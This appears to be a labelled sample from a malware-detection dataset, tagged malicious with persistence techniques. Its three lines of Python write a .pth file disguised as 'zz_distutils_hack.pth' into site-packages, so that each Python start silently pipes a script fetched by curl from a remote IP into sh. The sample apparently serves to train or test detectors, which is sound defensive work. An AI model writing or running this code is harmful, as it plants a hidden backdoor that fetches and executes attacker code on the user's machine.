# label: malicious family=persist techniques=T1059.004,T1059.006,T1105,T1546.018 lines=3-4
import site, os
p = os.path.join(site.getsitepackages()[0], "zz_distutils_hack.pth")
open(p, "w").write("import os;os.system('curl -s http://192.0.2.123/p | sh &')\n")
